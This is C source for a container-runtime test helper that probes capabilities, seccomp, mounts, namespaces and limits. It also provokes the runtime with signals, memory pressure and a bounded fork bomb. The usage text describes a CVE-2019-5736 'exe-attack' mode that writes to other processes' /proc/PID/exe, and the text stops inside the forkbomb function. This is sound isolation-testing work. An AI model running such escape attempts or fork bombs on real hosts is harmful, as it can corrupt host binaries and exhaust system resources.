/* berth-testhelper: a static probe that runs inside test containers and reports what the
 * runtime set up, in `key: value` lines a bats test can grep. It also carries the actions
 * (signals, memory, forks, attacks) the integration tests provoke the runtime with.
 *
 * It is linked statically against plain glibc so the rootfs needs nothing but busybox and
 * this file; keep it free of NSS (getpwnam & co) for the same reason. */
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <linux/capability.h>
#include <math.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/personality.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/types.h>
#include <sys/un.h>
#include <sys/utsname.h>
#include <sys/wait.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

#include "lib/macros.h"

extern char **environ;

#define PROG "berth-testhelper"

static const char usage_text[] =
        "usage: " PROG " COMMAND [ARGS]\n"
        "\n"
        "Probes (print facts, exit 0):\n"
        "  caps            CapInh/CapPrm/CapEff/CapBnd/CapAmb: HEX, then inheritable/permitted/\n"
        "                  effective/bounding/ambient: CAP_A,CAP_B (or none)\n"
        "  seccomp         Seccomp: MODE, Seccomp_filters: N, NoNewPrivs: 0|1\n"
        "  fds             open fds, ascending, space separated (e.g. 0 1 2)\n"
        "  rlimits         one line per resource: NOFILE SOFT HARD (unlimited as unlimited)\n"
        "  ids             uid/gid/euid/egid/suid/sgid: N, groups: N N ... (supplementary)\n"
        "  umask           the umask in octal (0022)\n"
        "  cwd             the working directory\n"
        "  hostname        hostname: NAME, domainname: NAME\n"
        "  pid             pid: N, ppid: N\n"
        "  env             the environment, one VAR=VALUE per line\n"
        "  oomscore        oom_score_adj\n"
        "  personality     personality: 0xHEX, domain: LINUX|LINUX32|0xN, flags: A,B|none,\n"
        "                  machine: uname -m\n"
        "  sched           policy: SCHED_*, reset_on_fork: 0|1, nice, priority, runtime,\n"
        "                  deadline, period (ns), flags: 0xHEX\n"
        "  ioprio          class: IOPRIO_CLASS_*, priority: N\n"
        "  affinity        allowed cpu list (0-3,6)\n"
        "  mempolicy       mode: MPOL_*, flags: MPOL_F_*|none, nodes: LIST\n"
        "  timens          monotonic: S, boottime: S (whole seconds), offset: CLOCK S NS\n"
        "  tty             fdN: isatty=0|1 ttyname=PATH|ERRNO (N=0,1,2),\n"
        "                  winsize: ROWSxCOLS|ERRNO, ctty: yes|ERRNO, sid/pgid: N,\n"
        "                  tcpgrp: N|ERRNO\n"
        "  mounts          one line per mount: MOUNTPOINT FSTYPE SOURCE MOUNT_OPTS SUPER_OPTS\n"
        "                  PROPAGATION(shared:N,master:N|private) ROOT\n"
        "  ns              NAME: LINK for each /proc/self/ns entry\n"
        "  cgroup          /proc/self/cgroup\n"
        "\n"
        "Actions:\n"
        "  exit N                  exit with status N\n"
        "  kill-self SIG           die by SIG (name, SIGNAME or number); as pid 1 of a pid\n"
        "                          namespace, where the kernel drops it, fault signals\n"
        "                          (SEGV ILL FPE TRAP BUS) are raised by a real fault and\n"
        "                          the rest fall back to exit 128+SIG with a note on stderr\n"
        "  sleep SECONDS           sleep (fractions ok, inf sleeps until killed)\n"
        "  alloc MIB               allocate and touch MIB MiB, printing `allocated N MiB`\n"
        "                          after each, then sleep until killed\n"
        "  forkbomb [SECS] [MAX]   fork for SECS (3) seconds or MAX (4096) children; print\n"
        "                          forks: N, first_error: ERRNO|none, failures: N; then kill\n"
        "                          the children and exit 0\n"
        "  spin SECONDS            busy loop for SECONDS of wall time; print wall: S, cpu: S\n"
        "  counter FILE            write an increasing integer to FILE every 10 ms\n"
        "  signals                 print ready, then got SIGNAME per HUP INT QUIT USR1 USR2\n"
        "                          TERM received; exit 0 after TERM\n"
        "  write FILE TEXT         write TEXT (verbatim) to FILE; print ok or ERRNO\n"
        "  open PATH [r|w|rw]      open PATH; print ok or ERRNO\n"
        "  mknod PATH c|b MAJ MIN  create a device node (mknod PATH p: a fifo); ok or ERRNO\n"
        "  mkdir PATH              mkdir PATH 0755; print ok or ERRNO\n"
        "  syscall-getpid          raw getpid(2), to probe seccomp; print ok or ERRNO\n"
        "  sdnotify MSG...         send each MSG as a datagram to $NOTIFY_SOCKET (@ = abstract)\n"
        "  notify-recv SOCKET [COUNT] [TIMEOUT]\n"
        "                          bind a datagram socket (@ = abstract), print each datagram\n"
        "                          received, exit 0 after COUNT (1) or 1 after TIMEOUT (10) s\n"
        "  listen-fds              check LISTEN_FDS and LISTEN_PID, accept one connection on\n"
        "                          fd 3, send `hello from fd 3`, print served\n"
        "  cat-stdin-hash          read stdin to EOF; print sha256: HEX, bytes: N\n"
        "  console-send SOCKET [CMD...]\n"
        "                          act as the runtime of --console-socket: send a new pty\n"
        "                          master to SOCKET, then run CMD (default: print hello from\n"
        "                          PTY) with the slave as controlling terminal of a new\n"
        "                          session; exit with its status\n"
        "  exe-attack watch [SECS] CVE-2019-5736: for SECS (10) seconds open /proc/PID/exe of\n"
        "                          every other process, retry opening it for writing while it\n"
        "                          is busy and write to it. Files this process can see at the\n"
        "                          same path (its own rootfs) are skipped. Prints ready, then per\n"
        "                          target: target PID exe=LINK open=OK|ERRNO write=OK|ERRNO|-\n"
        "                          and finally result: wrote|blocked. The write puts back the\n"
        "                          bytes already there (or appends if unreadable) so a breach\n"
        "                          does not wreck the host binary.\n"
        "  exe-attack control [SECS]\n"
        "                          positive control: copy this binary to $TMPDIR/victim-PID,\n"
        "                          run it (sleep 1) and attack only that child; expect wrote\n";

/* ---------------------------------------------------------------------------------------- */
/* small utilities */

static _noreturn_ _printf_(1, 2) void die(const char *fmt, ...)
{
    va_list ap;

    fflush(stdout);
    fputs(PROG ": ", stderr);
    va_start(ap, fmt);
    vfprintf(stderr, fmt, ap);
    va_end(ap);
    fputc('\n', stderr);
    exit(1);
}

static const char *errname(int e)
{
    static char buf[32];
    const char *name = strerrorname_np(e);

    if (name)
        return name;
    snprintf(buf, sizeof(buf), "errno%d", e);
    return buf;
}

static const char *signame(int sig)
{
    static char buf[32];
    const char *abbrev = sigabbrev_np(sig);

    if (abbrev)
        snprintf(buf, sizeof(buf), "SIG%s", abbrev);
    else if (sig >= SIGRTMIN && sig <= SIGRTMAX)
        snprintf(buf, sizeof(buf), "SIGRTMIN+%d", sig - SIGRTMIN);
    else
        snprintf(buf, sizeof(buf), "SIG%d", sig);
    return buf;
}

static int parse_signal(const char *s)
{
    char *end;
    long n = strtol(s, &end, 10);

    if (*s && !*end)
        return n > 0 && n < NSIG ? (int)n : -1;
    if (strncasecmp(s, "SIG", 3) == 0)
        s += 3;
    for (int sig = 1; sig < NSIG; sig++) {
        const char *abbrev = sigabbrev_np(sig);
        if (abbrev && strcasecmp(abbrev, s) == 0)
            return sig;
    }
    return -1;
}

static double parse_seconds(const char *s)
{
    char *end;
    double v;

    if (strcasecmp(s, "inf") == 0 || strcasecmp(s, "infinity") == 0)
        return INFINITY;
    errno = 0;
    v = strtod(s, &end);
    if (errno || end == s || *end || v < 0 || isnan(v))
        die("invalid number of seconds: %s", s);
    return v;
}

static long parse_long(const char *s, long min, long max)
{
    char *end;
    long v;

    errno = 0;
    v = strtol(s, &end, 0);
    if (errno || end == s || *end || v < min || v > max)
        die("invalid number: %s (want %ld..%ld)", s, min, max);
    return v;
}

static double now_seconds(clockid_t clock)
{
    struct timespec ts;

    clock_gettime(clock, &ts);
    return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static void sleep_seconds(double secs)
{
    struct timespec ts;

    if (isinf(secs)) {
        for (;;)
            pause();
    }
    ts.tv_sec = (time_t)secs;
    ts.tv_nsec = (long)((secs - (double)ts.tv_sec) * 1e9);
    while (nanosleep(&ts, &ts) < 0 && errno == EINTR)
        ;
}

/* Whole file into a NUL terminated buffer; /proc files report size 0, so read until EOF. */
static char *read_text(const char *path)
{
    _cleanup_close_ int fd = open(path, O_RDONLY | O_CLOEXEC);
    size_t cap = 4096, len = 0;
    char *buf;

    if (fd < 0)
        return NULL;
    buf = malloc(cap);
    if (!buf)
        return NULL;
    for (;;) {
        ssize_t n;

        if (len + 1 >= cap) {
            char *grown = realloc(buf, cap * 2);
            if (!grown) {
                free(buf);
                errno = ENOMEM;
                return NULL;
            }
            buf = grown;
            cap *= 2;
        }
        n = RETRY_EINTR(read(fd, buf + len, cap - len - 1));
        if (n < 0) {
            int saved = errno;
            free(buf);
            errno = saved;
            return NULL;
        }
        if (n == 0)
            break;
        len += (size_t)n;
    }
    buf[len] = '\0';
    return buf;
}

/* Value of "Key:\tvalue" in a /proc status-like text, copied into out without the newline. */
static bool status_value(const char *text, const char *key, char *out, size_t outlen)
{
    size_t klen = strlen(key);

    for (const char *line = text; line && *line;) {
        const char *nl = strchr(line, '\n');
        size_t llen = nl ? (size_t)(nl - line) : strlen(line);

        if (llen > klen && strncmp(line, key, klen) == 0 && line[klen] == ':') {
            const char *v = line + klen + 1;
            size_t vlen;

            while (*v == ' ' || *v == '\t')
                v++;
            vlen = llen - (size_t)(v - line);
            if (vlen >= outlen)
                vlen = outlen - 1;
            memcpy(out, v, vlen);
            out[vlen] = '\0';
            return true;
        }
        line = nl ? nl + 1 : NULL;
    }
    return false;
}

static void print_ok_or_errno(int ret)
{
    if (ret < 0)
        printf("%s\n", errname(errno));
    else
        printf("ok\n");
}

static int cat_file(const char *path)
{
    _cleanup_free_ char *text = read_text(path);

    if (!text)
        die("%s: %s", path, strerror(errno));
    fputs(text, stdout);
    return 0;
}

/* Print a bitmap of cpus/nodes in the kernel's list format (0-3,6). */
static void print_bit_list(const char *prefix, bool (*isset)(const void *, size_t), const void *set,
                           size_t nbits)
{
    bool any = false;

    fputs(prefix, stdout);
    for (size_t i = 0; i < nbits; i++) {
        size_t j = i;

        if (!isset(set, i))
            continue;
        while (j + 1 < nbits && isset(set, j + 1))
            j++;
        printf("%s%zu", any ? "," : "", i);
        if (j > i)
            printf("-%zu", j);
        any = true;
        i = j;
    }
    printf("%s\n", any ? "" : "none");
}

/* ---------------------------------------------------------------------------------------- */
/* probes */

#define CAPNAME(c) [c] = #c
static const char *const cap_names[] = {
        CAPNAME(CAP_CHOWN),
        CAPNAME(CAP_DAC_OVERRIDE),
        CAPNAME(CAP_DAC_READ_SEARCH),
        CAPNAME(CAP_FOWNER),
        CAPNAME(CAP_FSETID),
        CAPNAME(CAP_KILL),
        CAPNAME(CAP_SETGID),
        CAPNAME(CAP_SETUID),
        CAPNAME(CAP_SETPCAP),
        CAPNAME(CAP_LINUX_IMMUTABLE),
        CAPNAME(CAP_NET_BIND_SERVICE),
        CAPNAME(CAP_NET_BROADCAST),
        CAPNAME(CAP_NET_ADMIN),
        CAPNAME(CAP_NET_RAW),
        CAPNAME(CAP_IPC_LOCK),
        CAPNAME(CAP_IPC_OWNER),
        CAPNAME(CAP_SYS_MODULE),
        CAPNAME(CAP_SYS_RAWIO),
        CAPNAME(CAP_SYS_CHROOT),
        CAPNAME(CAP_SYS_PTRACE),
        CAPNAME(CAP_SYS_PACCT),
        CAPNAME(CAP_SYS_ADMIN),
        CAPNAME(CAP_SYS_BOOT),
        CAPNAME(CAP_SYS_NICE),
        CAPNAME(CAP_SYS_RESOURCE),
        CAPNAME(CAP_SYS_TIME),
        CAPNAME(CAP_SYS_TTY_CONFIG),
        CAPNAME(CAP_MKNOD),
        CAPNAME(CAP_LEASE),
        CAPNAME(CAP_AUDIT_WRITE),
        CAPNAME(CAP_AUDIT_CONTROL),
        CAPNAME(CAP_SETFCAP),
        CAPNAME(CAP_MAC_OVERRIDE),
        CAPNAME(CAP_MAC_ADMIN),
        CAPNAME(CAP_SYSLOG),
        CAPNAME(CAP_WAKE_ALARM),
        CAPNAME(CAP_BLOCK_SUSPEND),
        CAPNAME(CAP_AUDIT_READ),
        CAPNAME(CAP_PERFMON),
        CAPNAME(CAP_BPF),
        CAPNAME(CAP_CHECKPOINT_RESTORE),
};

static int cmd_caps(int argc, char **argv)
{
    static const struct {
        const char *key, *label;
    } sets[] = {
            {"CapInh", "inheritable"}, {"CapPrm", "permitted"}, {"CapEff", "effective"},
            {"CapBnd", "bounding"},    {"CapAmb", "ambient"},
    };
    _cleanup_free_ char *status = read_text("/proc/self/status");
    uint64_t mask[ARRAY_SIZE(sets)] = {0};

    if (!status)
        die("/proc/self/status: %s", strerror(errno));
    for (size_t i = 0; i < ARRAY_SIZE(sets); i++) {
        char value[64];

        if (!status_value(status, sets[i].key, value, sizeof(value)))
            snprintf(value, sizeof(value), "0000000000000000");
        mask[i] = strtoull(value, NULL, 16);
        printf("%s: %s\n", sets[i].key, value);
    }
    for (size_t i = 0; i < ARRAY_SIZE(sets); i++) {
        bool any = false;

        printf("%s: ", sets[i].label);
        for (unsigned bit = 0; bit < 64; bit++) {
            if (!(mask[i] & (UINT64_C(1) << bit)))
                continue;
            if (bit < ARRAY_SIZE(cap_names) && cap_names[bit])
                printf("%s%s", any ? "," : "", cap_names[bit]);
            else
                printf("%sCAP_%u", any ? "," : "", bit);
            any = true;
        }
        printf("%s\n", any ? "" : "none");
    }
    return 0;
}

static int cmd_seccomp(int argc, char **argv)
{
    static const char *const keys[] = {"Seccomp", "Seccomp_filters", "NoNewPrivs"};
    _cleanup_free_ char *status = read_text("/proc/self/status");

    if (!status)
        die("/proc/self/status: %s", strerror(errno));
    for (size_t i = 0; i < ARRAY_SIZE(keys); i++) {
        char value[64];

        if (status_value(status, keys[i], value, sizeof(value)))
            printf("%s: %s\n", keys[i], value);
        else
            printf("%s: unsupported\n", keys[i]);
    }
    return 0;
}

static int compare_int(const void *a, const void *b)
{
    int x = *(const int *)a, y = *(const int *)b;

    return (x > y) - (x < y);
}

static int cmd_fds(int argc, char **argv)
{
    _cleanup_closedir_ DIR *dir = opendir("/proc/self/fd");
    struct dirent *de;
    int fds[4096];
    size_t n = 0;

    if (!dir)
        die("/proc/self/fd: %s", strerror(errno));
    while ((de = readdir(dir)) && n < ARRAY_SIZE(fds)) {
        int fd;

        if (!isdigit((unsigned char)de->d_name[0]))
            continue;
        fd = atoi(de->d_name);
        if (fd != dirfd(dir))
            fds[n++] = fd;
    }
    qsort(fds, n, sizeof(fds[0]), compare_int);
    for (size_t i = 0; i < n; i++)
        printf("%s%d", i ? " " : "", fds[i]);
    putchar('\n');
    return 0;
}

static void print_rlim(rlim_t v)
{
    if (v == RLIM_INFINITY)
        printf(" unlimited");
    else
        printf(" %llu", (unsigned long long)v);
}

static int cmd_rlimits(int argc, char **argv)
{
    static const struct {
        int resource;
        const char *name;
    } limits[] = {
            {RLIMIT_CPU, "CPU"},           {RLIMIT_FSIZE, "FSIZE"},
            {RLIMIT_DATA, "DATA"},         {RLIMIT_STACK, "STACK"},
            {RLIMIT_CORE, "CORE"},         {RLIMIT_RSS, "RSS"},
            {RLIMIT_NPROC, "NPROC"},       {RLIMIT_NOFILE, "NOFILE"},
            {RLIMIT_MEMLOCK, "MEMLOCK"},   {RLIMIT_AS, "AS"},
            {RLIMIT_LOCKS, "LOCKS"},       {RLIMIT_SIGPENDING, "SIGPENDING"},
            {RLIMIT_MSGQUEUE, "MSGQUEUE"}, {RLIMIT_NICE, "NICE"},
            {RLIMIT_RTPRIO, "RTPRIO"},     {RLIMIT_RTTIME, "RTTIME"},
    };

    for (size_t i = 0; i < ARRAY_SIZE(limits); i++) {
        struct rlimit rl;

        if (getrlimit((__rlimit_resource_t)limits[i].resource, &rl) < 0) {
            printf("%s %s\n", limits[i].name, errname(errno));
            continue;
        }
        printf("%s", limits[i].name);
        print_rlim(rl.rlim_cur);
        print_rlim(rl.rlim_max);
        putchar('\n');
    }
    return 0;
}

static int cmd_ids(int argc, char **argv)
{
    uid_t ruid, euid, suid;
    gid_t rgid, egid, sgid;
    gid_t groups[NGROUPS_MAX];
    int n;

    getresuid(&ruid, &euid, &suid);
    getresgid(&rgid, &egid, &sgid);
    printf("uid: %u\ngid: %u\neuid: %u\negid: %u\nsuid: %u\nsgid: %u\n", ruid, rgid, euid, egid,
           suid, sgid);
    n = getgroups((int)ARRAY_SIZE(groups), groups);
    if (n < 0)
        die("getgroups: %s", strerror(errno));
    printf("groups:");
    for (int i = 0; i < n; i++)
        printf(" %u", groups[i]);
    putchar('\n');
    return 0;
}

static int cmd_umask(int argc, char **argv)
{
    mode_t mask = umask(0);

    umask(mask);
    printf("%04o\n", (unsigned)mask);
    return 0;
}

static int cmd_cwd(int argc, char **argv)
{
    char cwd[PATH_MAX];

    if (!getcwd(cwd, sizeof(cwd))) {
        printf("%s\n", errname(errno));
        return 1;
    }
    printf("%s\n", cwd);
    return 0;
}

static int cmd_hostname(int argc, char **argv)
{
    struct utsname u;

    if (uname(&u) < 0)
        die("uname: %s", strerror(errno));
    printf("hostname: %s\ndomainname: %s\n", u.nodename, u.domainname);
    return 0;
}

static int cmd_pid(int argc, char **argv)
{
    printf("pid: %d\nppid: %d\n", (int)getpid(), (int)getppid());
    return 0;
}

static int cmd_env(int argc, char **argv)
{
    for (char **e = environ; e && *e; e++)
        printf("%s\n", *e);
    return 0;
}

static int cmd_oomscore(int argc, char **argv)
{
    return cat_file("/proc/self/oom_score_adj");
}

static int cmd_personality(int argc, char **argv)
{
    static const struct {
        unsigned long flag;
        const char *name;
    } flags[] = {
            {UNAME26, "UNAME26"},
            {ADDR_NO_RANDOMIZE, "ADDR_NO_RANDOMIZE"},
            {FDPIC_FUNCPTRS, "FDPIC_FUNCPTRS"},
            {MMAP_PAGE_ZERO, "MMAP_PAGE_ZERO"},
            {ADDR_COMPAT_LAYOUT, "ADDR_COMPAT_LAYOUT"},
            {READ_IMPLIES_EXEC, "READ_IMPLIES_EXEC"},
            {ADDR_LIMIT_32BIT, "ADDR_LIMIT_32BIT"},
            {SHORT_INODE, "SHORT_INODE"},
            {WHOLE_SECONDS, "WHOLE_SECONDS"},
            {STICKY_TIMEOUTS, "STICKY_TIMEOUTS"},
            {ADDR_LIMIT_3GB, "ADDR_LIMIT_3GB"},
    };
    int p = personality(0xffffffff);
    unsigned long domain;
    struct utsname u;
    bool any = false;

    if (p < 0)
        die("personality: %s", strerror(errno));
    domain = (unsigned long)p & PER_MASK;
    printf("personality: 0x%x\n", (unsigned)p);
    if (domain == PER_LINUX)
        printf("domain: LINUX\n");
    else if (domain == PER_LINUX32)
        printf("domain: LINUX32\n");
    else
        printf("domain: 0x%lx\n", domain);
    printf("flags: ");
    for (size_t i = 0; i < ARRAY_SIZE(flags); i++) {
        if ((unsigned long)p & flags[i].flag) {
            printf("%s%s", any ? "," : "", flags[i].name);
            any = true;
        }
    }
    printf("%s\n", any ? "" : "none");
    if (uname(&u) == 0)
        printf("machine: %s\n", u.machine);
    return 0;
}

/* glibc 2.36 has no wrapper or struct for sched_getattr(2); this is the kernel's layout. */
struct helper_sched_attr {
    uint32_t size;
    uint32_t sched_policy;
    uint64_t sched_flags;
    int32_t sched_nice;
    uint32_t sched_priority;
    uint64_t sched_runtime;
    uint64_t sched_deadline;
    uint64_t sched_period;
    uint32_t sched_util_min;
    uint32_t sched_util_max;
};

static int cmd_sched(int argc, char **argv)
{
    static const char *const policies[] = {
            [0] = "SCHED_OTHER", [1] = "SCHED_FIFO", [2] = "SCHED_RR",
            [3] = "SCHED_BATCH", [5] = "SCHED_IDLE", [6] = "SCHED_DEADLINE",
    };
    struct helper_sched_attr attr = {0};
    int policy = sched_getscheduler(0);
    unsigned base;

    if (policy < 0)
        die("sched_getscheduler: %s", strerror(errno));
    base = (unsigned)policy & ~(unsigned)SCHED_RESET_ON_FORK;
    if (base < ARRAY_SIZE(policies) && policies[base])
        printf("policy: %s\n", policies[base]);
    else
        printf("policy: %u\n", base);
    printf("reset_on_fork: %d\n", (policy & SCHED_RESET_ON_FORK) ? 1 : 0);
    if (syscall(SYS_sched_getattr, 0, &attr, sizeof(attr), 0) < 0) {
        struct sched_param sp;

        errno = 0;
        printf("nice: %d\n", getpriority(PRIO_PROCESS, 0));
        if (sched_getparam(0, &sp) == 0)
            printf("priority: %d\n", sp.sched_priority);
        return 0;
    }
    printf("nice: %d\npriority: %u\n", attr.sched_nice, attr.sched_priority);
    printf("runtime: %llu\ndeadline: %llu\nperiod: %llu\n", (unsigned long long)attr.sched_runtime,
           (unsigned long long)attr.sched_deadline, (unsigned long long)attr.sched_period);
    printf("flags: 0x%llx\n", (unsigned long long)attr.sched_flags);
    return 0;
}

static int cmd_ioprio(int argc, char **argv)
{
    static const char *const classes[] = {"IOPRIO_CLASS_NONE", "IOPRIO_CLASS_RT", "IOPRIO_CLASS_BE",
                                          "IOPRIO_CLASS_IDLE"};
    /* IOPRIO_WHO_PROCESS = 1; the class sits above bit 13 of the value. */
    long prio = syscall(SYS_ioprio_get, 1, 0);
    long cls;

    if (prio < 0)
        die("ioprio_get: %s", strerror(errno));
    cls = prio >> 13;
    if (cls >= 0 && (size_t)cls < ARRAY_SIZE(classes))
        printf("class: %s\n", classes[cls]);
    else
        printf("class: %ld\n", cls);
    printf("priority: %ld\n", prio & 0xff);
    return 0;
}

static cpu_set_t *affinity_set;
static size_t affinity_size;

static bool cpu_isset(const void *set, size_t i)
{
    return CPU_ISSET_S(i, affinity_size, (const cpu_set_t *)set);
}

static int cmd_affinity(int argc, char **argv)
{
    int ncpus = 1024;

    for (;;) {
        affinity_set = CPU_ALLOC((size_t)ncpus);
        affinity_size = CPU_ALLOC_SIZE((size_t)ncpus);
        if (!affinity_set)
            die("out of memory");
        if (sched_getaffinity(0, affinity_size, affinity_set) == 0)
            break;
        CPU_FREE(affinity_set);
        if (errno != EINVAL || ncpus > (1 << 20))
            die("sched_getaffinity: %s", strerror(errno));
        ncpus *= 2;
    }
    print_bit_list("", cpu_isset, affinity_set, (size_t)ncpus);
    CPU_FREE(affinity_set);
    return 0;
}

static bool ulong_bit_isset(const void *set, size_t i)
{
    const unsigned long *words = set;
    const size_t bits = sizeof(unsigned long) * CHAR_BIT;

    return (words[i / bits] >> (i % bits)) & 1;
}

static int cmd_mempolicy(int argc, char **argv)
{
    static const char *const modes[] = {
            "MPOL_DEFAULT",
            "MPOL_PREFERRED",
            "MPOL_BIND",
            "MPOL_INTERLEAVE",
            "MPOL_LOCAL",
            "MPOL_PREFERRED_MANY",
            "MPOL_WEIGHTED_INTERLEAVE",
    };
    /* Mode flags the kernel ORs into the returned mode (uapi mempolicy.h). */
    static const struct {
        int flag;
        const char *name;
    } mode_flags[] = {
            {1 << 15, "MPOL_F_STATIC_NODES"},
            {1 << 14, "MPOL_F_RELATIVE_NODES"},
            {1 << 13, "MPOL_F_NUMA_BALANCING"},
    };
    unsigned long nodes[4096 / (sizeof(unsigned long) * CHAR_BIT)] = {0};
    int mode = 0, base;
    bool any = false;

    if (syscall(SYS_get_mempolicy, &mode, nodes, sizeof(nodes) * CHAR_BIT, NULL, 0UL) < 0) {
        printf("mode: %s\n", errname(errno));
        return 0;
    }
    base = mode;
    for (size_t i = 0; i < ARRAY_SIZE(mode_flags); i++)
        base &= ~mode_flags[i].flag;
    if (base >= 0 && (size_t)base < ARRAY_SIZE(modes))
        printf("mode: %s\n", modes[base]);
    else
        printf("mode: %d\n", base);
    printf("flags: ");
    for (size_t i = 0; i < ARRAY_SIZE(mode_flags); i++) {
        if (mode & mode_flags[i].flag) {
            printf("%s%s", any ? "," : "", mode_flags[i].name);
            any = true;
        }
    }
    printf("%s\n", any ? "" : "none");
    print_bit_list("nodes: ", ulong_bit_isset, nodes, sizeof(nodes) * CHAR_BIT);
    return 0;
}

static int cmd_timens(int argc, char **argv)
{
    struct timespec mono, boot;
    _cleanup_free_ char *offsets = NULL;

    clock_gettime(CLOCK_MONOTONIC, &mono);
    clock_gettime(CLOCK_BOOTTIME, &boot);
    printf("monotonic: %lld\nboottime: %lld\n", (long long)mono.tv_sec, (long long)boot.tv_sec);
    offsets = read_text("/proc/self/timens_offsets");
    for (char *line = offsets, *next; line && *line; line = next) {
        next = strchr(line, '\n');
        if (next)
            *next++ = '\0';
        /* The kernel pads the columns; one space apart is easier to match. */
        printf("offset:");
        for (char *tok = strtok(line, " \t"); tok; tok = strtok(NULL, " \t"))
            printf(" %s", tok);
        putchar('\n');
    }
    return 0;
}

static int cmd_tty(int argc, char **argv)
{
    struct winsize ws;
    int fd, pgrp;

    for (fd = 0; fd <= 2; fd++) {
        char name[PATH_MAX];
        int tty = isatty(fd);
        int err = ttyname_r(fd, name, sizeof(name));

        printf("fd%d: isatty=%d ttyname=%s\n", fd, tty, err ? errname(err) : name);
    }
    if (ioctl(0, TIOCGWINSZ, &ws) == 0)
        printf("winsize: %ux%u\n", ws.ws_row, ws.ws_col);
    else
        printf("winsize: %s\n", errname(errno));
    fd = open("/dev/tty", O_RDONLY | O_NOCTTY | O_CLOEXEC);
    if (fd >= 0) {
        printf("ctty: yes\n");
        close(fd);
    } else {
        printf("ctty: %s\n", errname(errno));
    }
    printf("sid: %d\npgid: %d\n", (int)getsid(0), (int)getpgrp());
    pgrp = tcgetpgrp(0);
    if (pgrp >= 0)
        printf("tcpgrp: %d\n", pgrp);
    else
        printf("tcpgrp: %s\n", errname(errno));
    return 0;
}

static int cmd_mounts(int argc, char **argv)
{
    _cleanup_free_ char *info = read_text("/proc/self/mountinfo");

    if (!info)
        die("/proc/self/mountinfo: %s", strerror(errno));
    for (char *line = info, *next; *line; line = next) {
        char *field[64], *save = NULL, prop[256] = "";
        size_t n = 0, dash = 0;

        next = strchr(line, '\n');
        if (next)
            *next++ = '\0';
        else
            next = line + strlen(line);
        for (char *tok = strtok_r(line, " ", &save); tok && n < ARRAY_SIZE(field);
             tok = strtok_r(NULL, " ", &save)) {
            if (!dash && n >= 6 && streq(tok, "-"))
                dash = n;
            field[n++] = tok;
        }
        /* id parent dev root mountpoint opts [optional...] - fstype source superopts */
        if (!dash || n < dash + 4)
            continue;
        for (size_t i = 6; i < dash; i++) {
            if (*prop)
                strncat(prop, ",", sizeof(prop) - strlen(prop) - 1);
            strncat(prop, field[i], sizeof(prop) - strlen(prop) - 1);
        }
        printf("%s %s %s %s %s %s %s\n", field[4], field[dash + 1], field[dash + 2], field[5],
               field[dash + 3], *prop ? prop : "private", field[3]);
    }
    return 0;
}

static int compare_names(const struct dirent **a, const struct dirent **b)
{
    return strcmp((*a)->d_name, (*b)->d_name);
}

static int cmd_ns(int argc, char **argv)
{
    struct dirent **entries;
    int n = scandir("/proc/self/ns", &entries, NULL, compare_names);

    if (n < 0)
        die("/proc/self/ns: %s", strerror(errno));
    for (int i = 0; i < n; i++) {
        char path[PATH_MAX], link[256];
        ssize_t len;

        if (entries[i]->d_name[0] != '.') {
            snprintf(path, sizeof(path), "/proc/self/ns/%s", entries[i]->d_name);
            len = readlink(path, link, sizeof(link) - 1);
            if (len >= 0)
                link[len] = '\0';
            printf("%s: %s\n", entries[i]->d_name, len >= 0 ? link : errname(errno));
        }
        free(entries[i]);
    }
    free(entries);
    return 0;
}

static int cmd_cgroup(int argc, char **argv)
{
    return cat_file("/proc/self/cgroup");
}

/* ---------------------------------------------------------------------------------------- */
/* actions */

static int cmd_exit(int argc, char **argv)
{
    fflush(stdout);
    exit((int)parse_long(argv[1], 0, 255));
}

static int cmd_kill_self(int argc, char **argv)
{
    int sig = parse_signal(argv[1]);
    struct sigaction sa = {.sa_handler = SIG_DFL};
    sigset_t set;

    if (sig < 0)
        die("unknown signal: %s", argv[1]);
    fflush(stdout);
    sigaction(sig, &sa, NULL);
    sigemptyset(&set);
    sigaddset(&set, sig);
    sigprocmask(SIG_UNBLOCK, &set, NULL);
    kill(getpid(), sig);
    /* Still here: we are init of a pid namespace, which only dies of kernel-forced faults. */
    switch (sig) {
    case SIGSEGV: *(volatile int *)0 = 0; break;
    case SIGILL: __builtin_trap();
    case SIGFPE: {
        /* Both operands volatile: gcc turns 1 / x into a compare that never traps. */
        volatile int num = 42, zero = 0;
        printf("%d\n", num / zero);
        break;
    }
    case SIGTRAP: __asm__ volatile("int3"); break;
    case SIGBUS: {
        /* Touching a page beyond the end of a mapped empty file faults with SIGBUS. */
        char tmpl[] = "/tmp/berth-testhelper-bus-XXXXXX";
        int fd = mkstemp(tmpl);
        if (fd >= 0) {
            volatile char *p = mmap(NULL, 4096, PROT_READ, MAP_SHARED, fd, 0);
            unlink(tmpl);
            if (p != MAP_FAILED)
                (void)p[0];
        }
        break;
    }
    default: break;
    }
    fprintf(stderr, PROG ": %s did not kill pid %d (init of its pid namespace); exiting %d\n",
            signame(sig), (int)getpid(), 128 + sig);
    exit(128 + sig);
}

static int cmd_sleep(int argc, char **argv)
{
    sleep_seconds(parse_seconds(argv[1]));
    return 0;
}

static int cmd_alloc(int argc, char **argv)
{
    long mib = parse_long(argv[1], 0, LONG_MAX / (1 << 20));

    for (long i = 1; i <= mib; i++) {
        char *p = mmap(NULL, 1 << 20, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);

        if (p == MAP_FAILED) {
            printf("alloc failed: %s\n", errname(errno));
            fflush(stdout);
            return 1;
        }
        /* Non-zero bytes, so the pages are really charged and cannot be shared zero pages. */
        memset(p, 0xa5, 1 << 20);
        printf("allocated %ld MiB\n", i);
        fflush(stdout);
    }
    for (;;)
        pause();
}

static int cmd_forkbomb(int argc, char **argv)
{
    double secs = argc > 1 ? parse_seconds(argv[1]) : 3.0;
    long max = argc > 2 ? parse_long(argv[2], 1, 1 << 22) : 4096;
    pid_t parent = getpid(), *kids = calloc((size_t)max, sizeof(pid_t));
    long forks = 0, failures = 0;
    int first_error = 0;
